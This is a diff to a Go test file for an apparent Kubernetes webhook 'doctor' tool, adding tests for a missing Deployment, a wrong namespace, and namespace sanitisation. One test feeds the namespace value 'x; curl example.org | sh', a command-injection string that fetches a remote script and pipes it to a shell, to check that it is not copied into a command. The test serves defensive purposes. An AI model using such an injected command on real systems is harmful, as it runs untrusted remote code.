@@ -23,7 +23,7 @@ func TestHealthy(t *testing.T) {
 		}
 		var want []string
 		for _, c := range checks() {
-			if c.id != "kubelet-configuration" && (name == "installed" || !c.installed) {
+			if c.id != "kubelet-configuration" && (name == "installed" || c.made == always) {
 				want = append(want, c.id)
 			}
 		}
@@ -52,7 +52,7 @@ func TestUnreadIsNotFine(t *testing.T) {
 					continue
 				}
 				not := slices.ContainsFunc(r.NotLooked, func(n NotLooked) bool { return n.Check == c.id && n.Source == source })
-				if slices.Contains(r.Fine, c.id) || !not && (name == "installed" || !c.installed) {
+				if slices.Contains(r.Fine, c.id) || !not && (name == "installed" || c.made == always) {
 					t.Errorf("%s without %s: %s counts as looked at", name, source, c.id)
 				}
 				if slices.ContainsFunc(r.Findings, func(f Finding) bool { return f.Check == c.id }) {
@@ -63,6 +63,45 @@ func TestUnreadIsNotFine(t *testing.T) {
 				t.Errorf("%s without %s: fails %t, not looked %+v", name, source, r.Fails(Error), r.NotLooked)
 			}
 		}
+	}
+}
+
+// Where the webhook's Deployment is gone, what can be said of it alone is not fine.
+func TestDeploymentGone(t *testing.T) {
+	s := healthy(t)
+	s.Deployments = nil
+	r := Examine(s)
+	for _, c := range checks() {
+		if c.made == deployed && (slices.Contains(r.Fine, c.id) || !slices.ContainsFunc(r.NotLooked, func(n NotLooked) bool { return n.Check == c.id })) {
+			t.Errorf("%s counts as looked at", c.id)
+		}
+	}
+	if !slices.ContainsFunc(r.Findings, func(f Finding) bool { return f.Check == "webhook-pods" && f.Severity == Error }) {
+		t.Errorf("found %+v", r.Findings)
+	}
+}
+
+// In a namespace that the configurations do not call nothing is said but that: least of all that what is there is left over.
+func TestElsewhere(t *testing.T) {
+	s := healthy(t)
+	s.OwnNamespace, s.Namespace, s.Pods = "wrong", nil, nil
+	r := Examine(s)
+	if len(r.Findings) != 1 || r.Findings[0].Check != otherNamespace || !slices.Equal(r.Findings[0].Commands, []string{"podgrace doctor -n " + DefaultNamespace}) || !r.Fails(Error) || len(r.Fine)+len(r.NotLooked) > 0 {
+		t.Errorf("%+v", r)
+	}
+	if text := r.Text(console.Style{}); !strings.Contains(text, "not installed; looked for in the namespace wrong") {
+		t.Error(text)
+	}
+}
+
+// A namespace that can't be one is not copied into a command.
+func TestNamespaceOf(t *testing.T) {
+	s := healthy(t)
+	for i := range s.Mutating[0].Webhooks {
+		s.Mutating[0].Webhooks[i].ClientConfig.Service.Namespace = "x; curl example.org | sh"
+	}
+	if got := s.NamespaceOf(); got != DefaultNamespace {
+		t.Error(got)
 	}
 }
 
